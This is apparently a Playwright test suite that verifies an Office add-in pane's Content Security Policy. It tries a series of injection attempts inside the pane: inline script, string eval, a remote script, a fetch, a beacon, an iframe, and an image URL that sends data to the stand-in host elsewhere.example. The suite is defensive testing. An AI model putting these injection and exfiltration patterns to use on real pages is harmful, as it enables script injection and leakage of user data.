import type { Frame } from "playwright-core";
import { sharedKit } from "../support/browser";

const kit = sharedKit();
let pane: Frame;
beforeAll(async () => {
  const page = await kit.open();
  const frame = await (await page.waitForSelector("#pane-frame")).contentFrame();
  pane = frame!;
});

/** Where the attempts go. */
const TRIED = /https:\/\/(elsewhere\.example|browser\.events\.data\.microsoft\.com)\//;

/** Each is tried in the pane as foreign code would; the browser says which directive stopped it. */
const ATTEMPTS: [string, string, () => void][] = [
  [
    "an inline script",
    "script-src-elem",
    () => {
      document.body.append(Object.assign(document.createElement("script"), { textContent: "1" }));
    },
  ],
  [
    "text run as code",
    "script-src",
    () => {
      setTimeout("1");
    },
  ],
  [
    "a script from elsewhere",
    "script-src-elem",
    () => {
      const src = "https://elsewhere.example/x.js";
      document.body.append(Object.assign(document.createElement("script"), { src }));
    },
  ],
  [
    "an inline style",
    "style-src-attr",
    () => {
      document.body.append(document.createElement("i"));
      document.body.lastElementChild!.setAttribute("style", "color: red");
    },
  ],
  [
    "a request to elsewhere",
    "connect-src",
    () => {
      fetch("https://elsewhere.example/").catch(() => undefined);
    },
  ],
  [
    "what office.js posts to Microsoft",
    "connect-src",
    () => {
      const telemetry = "https://browser.events.data.microsoft.com/OneCollector/1.0/";
      navigator.sendBeacon(telemetry, "{}");
    },
  ],
  [
    "a picture that carries data away",
    "img-src",
    () => {
      new Image().src = "https://elsewhere.example/?equity=1000000";
    },
  ],
  [
    "a frame",
    "frame-src",
    () => {
      const src = "https://elsewhere.example/";
      document.body.append(Object.assign(document.createElement("iframe"), { src }));
    },
  ],
];

describe("the pane's policy", () => {
  test.each(ATTEMPTS)("stops %s", async (_, directive, attempt) => {
    const stopped = pane.evaluate(
      () =>
        new Promise<string>((resolve) => {
          const named = (event: SecurityPolicyViolationEvent) => resolve(event.effectiveDirective);
          document.addEventListener("securitypolicyviolation", named, { once: true });
        }),
    );
    await pane.evaluate(attempt);
    expect(await stopped).toBe(directive);
  });

  test("stopped nothing that the add-in itself wanted", () => {
    // What was tried above is on the browser's list of requests, each of them blocked.
    const ours = kit.outside.filter((address) => !TRIED.test(address));
    expect(ours).toEqual([]);
    expect(kit.problems.filter((text) => !TRIED.test(text) && !/inline|eval/.test(text))).toEqual(
      [],
    );
  });
});
